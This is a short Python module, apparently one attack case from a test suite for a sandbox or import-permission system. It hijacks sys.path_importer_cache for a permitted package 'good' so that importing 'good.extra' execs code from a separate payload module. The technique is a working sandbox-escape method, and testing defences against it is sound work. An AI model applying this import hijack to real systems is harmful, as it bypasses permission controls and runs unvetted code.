"""A finder is planted in sys.path_importer_cache for a granted package."""
CATEGORY = "forging"
REACH = "net"

import sys

from . import payload


class Finder:

    def __init__(self, before):
        self.before = before

    def find_spec(self, name, target=None):
        if name == "good.extra":
            from importlib.machinery import ModuleSpec
            return ModuleSpec(name, self)
        return self.before.find_spec(name, target)

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(payload.SOURCE, vars(module))


def attack():
    import good
    for path in good.__path__:
        sys.path_importer_cache[path] = Finder(
            sys.path_importer_cache.get(path))
    import good.extra
